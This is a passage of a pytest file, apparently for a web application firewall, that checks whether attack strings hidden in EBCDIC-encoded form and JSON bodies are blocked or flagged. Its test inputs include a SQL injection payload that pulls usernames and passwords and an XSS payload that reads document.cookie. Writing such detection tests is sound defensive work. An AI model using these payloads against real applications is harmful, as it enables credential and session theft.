    pct = lambda s: "".join(f"%{b:02x}" for b in s.encode(codepage))  # noqa: E731
    return f"{pct(name)}={pct(value)}".encode()


@pytest.mark.parametrize("charset,codepage", [("ibm037", "cp037"), ("IBM500", "cp500"),
                                              ("ibm01140", "cp1140")])
def test_a_payload_in_an_ebcdic_form_body_is_denied(enforce_envoy, charset, codepage):
    body = _ebcdic_form("q", "' UNION SELECT username, password FROM users--", codepage)
    resp = enforce_envoy.request(
        "POST", "/api/comments", body=body,
        headers={"content-type": f"application/x-www-form-urlencoded; charset={charset}"})
    assert_problem_json_403(resp)


def test_a_payload_in_an_ebcdic_json_body_is_located_in_monitor_mode(monitor_envoy):
    body = json.dumps({"note": "<script>alert(document.cookie)</script>"}).encode("cp037")
    resp = monitor_envoy.request("POST", "/api/comments", body=body,
                                 headers={"content-type": "application/json; charset=ibm037"})
    ann = assert_annotated(resp, action="deny", cls="xss", mode="monitor")
    assert "at json:$.note" in ann["reasons"], ann


def test_an_ordinary_ebcdic_form_body_passes(enforce_envoy):
    body = _ebcdic_form("q", "Grace Hopper")
    resp = enforce_envoy.request(
        "POST", "/api/comments", body=body,
        headers={"content-type": "application/x-www-form-urlencoded; charset=ibm037"})
    assert resp.status != 403, (resp.status, resp.body[:300])
